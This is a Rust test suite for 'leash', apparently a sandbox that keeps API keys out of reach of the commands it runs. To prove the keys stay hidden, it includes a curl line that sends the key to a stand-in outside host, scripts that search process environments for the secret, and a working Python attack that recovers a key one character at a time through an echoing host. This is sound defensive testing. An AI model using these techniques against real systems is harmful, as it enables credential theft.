//! Secrets stay outside the sandbox, with real programs: `leash run` gives the command a placeholder in place of
//! `ANTHROPIC_API_KEY`; curl and Python's requests reach a fake provider over HTTPS (test CA) that answers 401 unless the real
//! key arrives, and the key it quotes back arrives as the placeholder. Inside, neither the environment (the
//! command's or init's), the policy file nor anything leash prints holds the real value, and the placeholder sent
//! to another host is refused. `leash check` refuses a policy whose secret is missing.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic, reason = "a test's helpers fail it by panicking")]

mod common;

use std::process::Command;

use common::{https_material, log_lines, sandbox_available, stderr, stdout, FakeProvider};

const LEASH: &str = env!("CARGO_BIN_EXE_leash");
const SECRET: &str = "sk-ant-real-7f3a9c2e1b5d4f6a8091a2b3c4d5e6f7";

fn policy(dir: &std::path::Path, port: u16) -> std::path::PathBuf {
    let path = dir.join("policy.yaml");
    let text = format!(
        "network:\n  mode: blocklist\n  blocked_urls: []\n  ports: [80, {port}]\n  tunnel_ports: [{port}]\n  \
         allow_destinations: [127.0.0.0/8]\n  credentials:\n    - preset: anthropic\n      hosts: [docs.test]\n"
    );
    std::fs::write(&path, text).unwrap();
    path
}

#[test]
fn the_command_holds_a_placeholder_and_its_requests_carry_the_real_key() {
    if !sandbox_available() {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let ca = https_material(dir.path());
    let seen = dir.path().join("seen");
    let provider = FakeProvider::start(dir.path(), SECRET, &seen);
    let port = provider.port;
    let policy = policy(dir.path(), port);
    let log = dir.path().join("audit.jsonl");
    let script = format!(
        r#"echo "env=$ANTHROPIC_API_KEY"
curl -s -H "x-api-key: $ANTHROPIC_API_KEY" https://docs.test:{port}/v1/messages; echo
python3 -c 'import os, requests
print(requests.get("https://docs.test:{port}/v1/models", headers={{"x-api-key": os.environ["ANTHROPIC_API_KEY"]}}).text)'
grep -c "{SECRET}" /proc/self/environ; cat /proc/1/environ 2>/dev/null | grep -c "{SECRET}"
grep -c credentials {policy}; true
"#,
        policy = policy.display()
    );
    let o = Command::new(LEASH)
        .args(["run", "--policy", policy.to_str().unwrap(), "--log", log.to_str().unwrap()])
        .args(["--upstream-ca", ca.to_str().unwrap(), "--resolve", "docs.test:127.0.0.1", "--", "sh", "-c", &script])
        .env("ANTHROPIC_API_KEY", SECRET)
        .output()
        .unwrap();
    let (out, err) = (stdout(&o), stderr(&o));
    assert_eq!(o.status.code(), Some(0), "{out}\n{err}");
    let lines: Vec<&str> = out.lines().collect();
    let placeholder = lines[0].strip_prefix("env=").unwrap();
    assert!(placeholder.starts_with("leash-anthropic-") && placeholder.len() == SECRET.len(), "{placeholder}");
    assert_eq!(lines[1], format!("your key: {placeholder}"), "curl got through; the quoted key is the placeholder");
    assert_eq!(lines[2], format!("your key: {placeholder}"), "python got through too");
    assert_eq!(lines[3], "0", "the command's environment has no real key");
    assert_eq!(lines[4], "0", "init's environment is not readable, or has no real key");
    assert_eq!(lines[5], "0", "the policy file is hidden inside: {out}");
    assert_eq!(std::fs::read_to_string(&seen).unwrap(), format!("{SECRET}\n{SECRET}\n"), "the provider got the key");
    assert!(!out.contains(SECRET) && !err.contains(SECRET), "nothing leash or the command printed holds the key");
    let text = std::fs::read_to_string(&log).unwrap();
    assert!(!text.contains(SECRET), "the audit log never holds the key");
    let with_credential = log_lines(&log).iter().filter(|l| l["credential"] == "anthropic").count();
    assert_eq!(with_credential, 2, "{text}");
}

#[test]
fn the_placeholder_sent_to_another_host_is_refused() {
    if !sandbox_available() {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let origin_port = common::origin();
    let policy = policy(dir.path(), origin_port);
    let log = dir.path().join("audit.jsonl");
    let script = format!(
        "curl -s -o /dev/null -w '%{{http_code}}' \"http://elsewhere.test:{origin_port}/?k=$ANTHROPIC_API_KEY\""
    );
    let o = Command::new(LEASH)
        .args(["run", "--policy", policy.to_str().unwrap(), "--log", log.to_str().unwrap()])
        .args(["--resolve", "elsewhere.test:127.0.0.1", "--", "sh", "-c", &script])
        .env("ANTHROPIC_API_KEY", SECRET)
        .output()
        .unwrap();
    assert_eq!(stdout(&o), "403", "{}", stderr(&o));
    assert!(stderr(&o).contains("credential `anthropic` found in a request to elsewhere.test"), "{}", stderr(&o));
    let reasons: Vec<String> = log_lines(&log).iter().filter_map(|l| l["reason"].as_str().map(str::to_owned)).collect();
    assert!(reasons.contains(&"credential-leak".to_owned()), "{reasons:?}");
}

#[test]
fn a_missing_secret_stops_leash_before_anything_runs() {
    let dir = tempfile::tempdir().unwrap();
    let policy = policy(dir.path(), 443);
    let marker = dir.path().join("ran");
    let o = Command::new(LEASH)
        .args(["run", "--policy", policy.to_str().unwrap(), "--", "touch", marker.to_str().unwrap()])
        .env_remove("ANTHROPIC_API_KEY")
        .output()
        .unwrap();
    assert_eq!(o.status.code(), Some(2), "{}", stderr(&o));
    assert!(stderr(&o).contains("credential `anthropic`: `ANTHROPIC_API_KEY` is not set"), "{}", stderr(&o));
    assert!(!marker.exists(), "the command ran");
    // `leash check` is a lint, run where the secrets are not (CI): unset is a warning there, not a failure.
    let check =
        Command::new(LEASH).args(["check", policy.to_str().unwrap()]).env_remove("ANTHROPIC_API_KEY").output().unwrap();
    assert_eq!(check.status.code(), Some(0), "{}", stderr(&check));
    assert!(stderr(&check).contains("warning:") && stderr(&check).contains("will not start"), "{}", stderr(&check));
    let empty =
        Command::new(LEASH).args(["check", policy.to_str().unwrap()]).env("ANTHROPIC_API_KEY", "").output().unwrap();
    assert!(stderr(&empty).contains("its secret (`ANTHROPIC_API_KEY`) is empty"), "{}", stderr(&empty));
    assert_eq!(empty.status.code(), Some(1), "set, and empty: leash could not use it");
}

#[test]
fn a_secret_read_from_a_file_is_not_readable_inside() {
    if !sandbox_available() {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let key_file = dir.path().join("provider.key");
    std::fs::write(&key_file, format!("{SECRET}\n")).unwrap();
    let policy = dir.path().join("policy.yaml");
    let text = format!(
        "network:\n  mode: blocklist\n  blocked_urls: []\n  credentials:\n    - preset: anthropic\n      \
         hosts: [docs.test]\n      file: {}\n",
        key_file.display()
    );
    std::fs::write(&policy, text).unwrap();
    let script = format!("cat {} | wc -c; echo \"$ANTHROPIC_API_KEY\" | cut -c1-16", key_file.display());
    let o = Command::new(LEASH)
        .args(["run", "--policy", policy.to_str().unwrap(), "--", "sh", "-c", &script])
        .env_remove("ANTHROPIC_API_KEY")
        .output()
        .unwrap();
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    assert_eq!(stdout(&o), "0\nleash-anthropic-\n", "the key file reads empty inside; the variable is the placeholder");
    assert!(!stdout(&o).contains(SECRET) && !stderr(&o).contains(SECRET));
}

#[test]
fn the_upstream_proxys_credentials_never_reach_the_command() {
    if !sandbox_available() {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let policy = dir.path().join("policy.yaml");
    let text = "network:\n  mode: blocklist\n  blocked_urls: []\n  upstream_proxy: http://127.0.0.1:9\n  \
                upstream_proxy_auth_env: CORP_PROXY\n";
    std::fs::write(&policy, text).unwrap();
    let corp = "corp-user:corp-password-0123";
    // Neither the variable leash reads them from, nor another variable that holds them.
    let o = Command::new(LEASH)
        .args(["run", "--policy", policy.to_str().unwrap(), "--", "sh", "-c", "env"])
        .env("CORP_PROXY", corp)
        .env("ALSO_CORP", format!("http://{corp}@proxy.corp.test:3128"))
        .output()
        .unwrap();
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    let env = stdout(&o);
    assert!(!env.contains("corp-password"), "the command's environment holds the proxy's password: {env}");
    assert!(!env.lines().any(|l| l.starts_with("CORP_PROXY=")), "{env}");
    assert!(env.contains("ALSO_CORP=http://leash-upstream-proxy-"), "{env}");
}

/// A policy whose anthropic credential is read from `file`.
fn file_policy(dir: &std::path::Path, file: &std::path::Path) -> std::path::PathBuf {
    let policy = dir.join("file-policy.yaml");
    let text = format!(
        "network:\n  mode: blocklist\n  blocked_urls: []\n  credentials:\n    - preset: anthropic\n      \
         hosts: [docs.test]\n      file: {}\n",
        file.display()
    );
    std::fs::write(&policy, text).unwrap();
    policy
}

#[test]
fn a_secret_with_whitespace_a_second_line_a_control_character_or_too_few_bytes_stops_leash() {
    let dir = tempfile::tempdir().unwrap();
    let key_file = dir.path().join("provider.key");
    let marker = dir.path().join("ran");
    let cases = [
        (format!("{SECRET} \n"), "begins or ends with whitespace"),
        (format!(" {SECRET}"), "begins or ends with whitespace"),
        (format!("{SECRET}\nsecond-line-of-it\n"), "has more than one line"),
        (format!("{SECRET}\n\n"), "begins or ends with whitespace"),
        (format!("sk-ant-\u{1b}[0m{SECRET}"), "holds a control character"),
        // A byte-order mark (a file saved by Notepad), a zero-width space, an inner space, a non-breaking one, a
        // quote: each a form a provider may quote back that leash's matcher would not know.
        (format!("\u{feff}{SECRET}\n"), "holds a character outside ASCII"),
        (format!("sk-ant-\u{200b}{SECRET}"), "holds a character outside ASCII"),
        (format!("sk-ant- {SECRET}"), "holds whitespace"),
        (format!("sk-ant-\u{a0}{SECRET}"), "holds whitespace"),
        (format!("sk-ant-\"{SECRET}"), "holds `\"` or `\\`, which a JSON answer quotes back escaped"),
        ("sk-ant-short\n".to_owned(), "is 12 bytes long; a secret this short could be ordinary text"),
    ];
    for (content, why) in cases {
        std::fs::write(&key_file, &content).unwrap();
        let policy = file_policy(dir.path(), &key_file);
        let expected = format!("credential `anthropic`: its secret (`{}`) {why}", key_file.display());
        let run = Command::new(LEASH)
            .args(["run", "--policy", policy.to_str().unwrap(), "--", "touch", marker.to_str().unwrap()])
            .output()
            .unwrap();
        assert_eq!(run.status.code(), Some(2), "{content:?}: {}", stderr(&run));
        assert!(stderr(&run).contains(&expected), "{content:?}: {}", stderr(&run));
        assert!(!stderr(&run).contains(SECRET), "the message never quotes the secret: {}", stderr(&run));
        assert!(!marker.exists(), "the command ran with {content:?}");
        let proxy = Command::new("timeout")
            .args(["10", LEASH, "proxy", "--policy", policy.to_str().unwrap(), "--listen", "127.0.0.1:0"])
            .output()
            .unwrap();
        assert_eq!(proxy.status.code(), Some(2), "{content:?}: {}", stderr(&proxy));
        assert!(stderr(&proxy).contains(&expected), "{}", stderr(&proxy));
        let check = Command::new(LEASH).args(["check", policy.to_str().unwrap()]).output().unwrap();
        assert_eq!(check.status.code(), Some(1), "{content:?}: {}", stderr(&check));
        assert!(stderr(&check).contains(&expected), "{}", stderr(&check));
    }
    // From the environment: the same rules, and no line end is taken off.
    let policy = policy(dir.path(), 443);
    for value in [format!("{SECRET}\n"), format!("{SECRET}\t"), "0123456789".to_owned(), format!("\u{feff}{SECRET}")] {
        let check = Command::new(LEASH)
            .args(["check", policy.to_str().unwrap()])
            .env("ANTHROPIC_API_KEY", &value)
            .output()
            .unwrap();
        assert_eq!(check.status.code(), Some(1), "{value:?}: {}", stderr(&check));
        assert!(
            stderr(&check).contains("credential `anthropic`: its secret (`ANTHROPIC_API_KEY`)"),
            "{}",
            stderr(&check)
        );
    }
    // A secret for an entry with a query parameter is written there as it is: only characters a query carries.
    let gemini = dir.path().join("gemini.yaml");
    std::fs::write(&gemini, "network:\n  mode: blocklist\n  blocked_urls: []\n  credentials:\n    - preset: gemini\n")
        .unwrap();
    let check = |value: &str| {
        Command::new(LEASH).args(["check", gemini.to_str().unwrap()]).env("GEMINI_API_KEY", value).output().unwrap()
    };
    let plus = check("AIzaSyReal+0a1b2c3d4e5f6a7b8c9d0e1f2a3b");
    assert_eq!(plus.status.code(), Some(1), "{}", stderr(&plus));
    assert!(stderr(&plus).contains("holds characters a query parameter cannot carry as they are"), "{}", stderr(&plus));
    assert_eq!(check("AIzaSyReal-0a1b2c3d4e5f6a7b8c9d0e1f2a3b").status.code(), Some(0));
    // One final line end (`echo`, or `\r\n`) is not part of the secret.
    for content in [format!("{SECRET}\n"), format!("{SECRET}\r\n"), SECRET.to_owned()] {
        std::fs::write(&key_file, &content).unwrap();
        let check = Command::new(LEASH).args(["check", file_policy(dir.path(), &key_file).to_str().unwrap()]).output();
        let check = check.unwrap();
        assert_eq!(check.status.code(), Some(0), "{content:?}: {}", stderr(&check));
    }
}

/// An upstream proxy that refuses every request with a 407 whose `X-Squid-Error` quotes the request's `x-api-key`
/// (as a proxy that echoes what it got would); prints its port first.
const ECHOING_UPSTREAM_PROXY: &str = r#"
import socket, threading
def serve(conn):
    with conn:
        data = b""
        while b"\r\n\r\n" not in data:
            more = conn.recv(4096)
            if not more:
                return
            data += more
        key = b""
        for line in data.split(b"\r\n"):
            if line.lower().startswith(b"x-api-key:"):
                key = line.split(b":", 1)[1].strip()
        conn.sendall(b"HTTP/1.1 407 Proxy Authentication Required\r\nX-Squid-Error: ERR_CACHE_ACCESS_DENIED " + key
                     + b"\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")
s = socket.socket()
s.bind(("127.0.0.1", 0))
s.listen(16)
print(s.getsockname()[1], flush=True)
while True:
    c, _ = s.accept()
    threading.Thread(target=serve, args=(c,), daemon=True).start()
"#;

#[test]
fn an_upstream_proxy_quoting_the_key_in_its_refusal_is_redacted_in_the_502_the_log_and_stderr() {
    use std::io::{BufRead, BufReader};
    let dir = tempfile::tempdir().unwrap();
    let (_upstream, port) = common::Served::start(Command::new("python3").args(["-c", ECHOING_UPSTREAM_PROXY]));
    let policy = dir.path().join("policy.yaml");
    let text = format!(
        "network:\n  mode: blocklist\n  blocked_urls: []\n  upstream_proxy: http://127.0.0.1:{port}\n  credentials:\n    \
         - preset: anthropic\n      hosts: [docs.test]\n      plaintext: true\n"
    );
    std::fs::write(&policy, text).unwrap();
    let (log, err_file) = (dir.path().join("audit.jsonl"), dir.path().join("stderr"));
    let mut leash = Command::new(LEASH)
        .args(["proxy", "--listen", "127.0.0.1:0", "--policy", policy.to_str().unwrap()])
        .args(["--log", log.to_str().unwrap()])
        .env("ANTHROPIC_API_KEY", SECRET)
        .stdout(std::process::Stdio::piped())
        .stderr(std::fs::File::create(&err_file).unwrap())
        .spawn()
        .unwrap();
    let mut lines = BufReader::new(leash.stdout.take().unwrap()).lines();
    let addr = lines.next().unwrap().unwrap().strip_prefix("listening on ").unwrap().to_owned();
    let placeholder = lines.next().unwrap().unwrap().rsplit_once('=').unwrap().1.to_owned();
    let o = Command::new("curl")
        .args(["-s", "--max-time", "10", "-w", "\n%{http_code}", "-x", &format!("http://{addr}")])
        .args(["-H", &format!("x-api-key: {placeholder}"), "http://docs.test/v1/models"])
        .output()
        .unwrap();
    leash.kill().unwrap();
    leash.wait().unwrap();
    let (body, err) = (stdout(&o), std::fs::read_to_string(&err_file).unwrap());
    let audit = std::fs::read_to_string(&log).unwrap();
    assert!(body.ends_with("\n502"), "{body}");
    for (what, text) in [("the 502 body", &body), ("the audit log", &audit), ("stderr", &err)] {
        assert!(!text.contains(SECRET), "{what} holds the real key: {text}");
        assert!(text.contains(&format!("ERR_CACHE_ACCESS_DENIED {placeholder}")), "{what} names the answer: {text}");
    }
}

/// A host that echoes a request's body as it arrives (a chunk per read), the head answered at once; one request per
/// connection. Many allowed hosts do as much (an echo service, a paste site, a form that shows what it got).
fn echoing_host() -> u16 {
    use std::io::{Read, Write};
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    std::thread::spawn(move || {
        for mut stream in listener.incoming().flatten() {
            std::thread::spawn(move || {
                let (mut got, mut buf) = (Vec::new(), [0u8; 4096]);
                while !got.windows(4).any(|w| w == b"\r\n\r\n") {
                    match stream.read(&mut buf) {
                        Ok(n @ 1..) => got.extend_from_slice(&buf[..n]),
                        _ => return,
                    }
                }
                let end = got.windows(4).position(|w| w == b"\r\n\r\n").unwrap() + 4;
                let head = String::from_utf8_lossy(&got[..end]).to_lowercase();
                let length = head.split("content-length:").nth(1).and_then(|v| v.lines().next()?.trim().parse().ok());
                let mut left: usize = length.unwrap_or(0);
                let mut body = got.split_off(end);
                let _ = stream.write_all(b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n");
                while left > 0 {
                    if body.is_empty() {
                        match stream.read(&mut buf) {
                            Ok(n @ 1..) => body.extend_from_slice(&buf[..n]),
                            _ => return,
                        }
                    }
                    let n = body.len().min(left);
                    let chunk = [format!("{n:x}\r\n").as_bytes(), &body[..n], b"\r\n"].concat();
                    left -= n;
                    body.drain(..n);
                    if stream.write_all(&chunk).is_err() {
                        return;
                    }
                }
                let _ = stream.write_all(b"0\r\n\r\n");
            });
        }
    });
    port
}

/// The adaptive attack on the leak watch's hold, from inside `leash run`: the key's format is public (`sk-ant-`); each
/// next character is guessed by streaming `known + guess` as a POST body to a host that echoes it. leash used to hold
/// back a body's tail that could start the real value, so the one guess of which nothing came back at once was the next
/// character: the old build gives away eight characters in about four seconds.
const PREFIX_ATTACK: &str = r#"
import os, socket, sys
port = int(sys.argv[1])
proxy = (os.environ.get("http_proxy") or os.environ["HTTP_PROXY"]).split("//")[1].rstrip("/").split(":")
known = "sk-ant-"
for _ in range(8):
    hit = None
    for c in "abcdefghijklmnopqrstuvwxyz0123456789-":
        guess = (known + c).encode()
        s = socket.create_connection((proxy[0], int(proxy[1])))
        s.sendall(f"POST http://echo.test:{port}/ HTTP/1.1\r\nHost: echo.test:{port}\r\nContent-Length: {len(guess) + 1}\r\n\r\n".encode())
        got = b""
        while b"\r\n\r\n" not in got:
            got += s.recv(4096)
        echoed = got.split(b"\r\n\r\n", 1)[1]
        s.sendall(guess)
        s.settimeout(2.0)
        try:
            echoed += s.recv(4096)
        except socket.timeout:
            pass
        s.close()
        # Not a byte of it came back: all of it was held, as a possible start of the key.
        if not echoed:
            hit = c
            break
    if hit is None:
        break
    known += hit
print(known)
"#;

#[test]
fn the_command_cannot_recover_the_key_a_character_at_a_time_through_an_echoing_host() {
    if !sandbox_available() {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let port = echoing_host();
    let policy = policy(dir.path(), port);
    // LEASH_UNDER_TEST: another build (the old one recovers `real-7f3`, the key's next eight characters).
    let leash = std::env::var("LEASH_UNDER_TEST").unwrap_or_else(|_| LEASH.to_owned());
    let o = Command::new(leash)
        .args(["run", "--policy", policy.to_str().unwrap(), "--resolve", "echo.test:127.0.0.1", "--"])
        .args(["python3", "-c", PREFIX_ATTACK, &port.to_string()])
        .env("ANTHROPIC_API_KEY", SECRET)
        .output()
        .unwrap();
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    assert_eq!(stdout(&o), "sk-ant-\n", "the attacker learned the key's next characters: {}", stderr(&o));
}
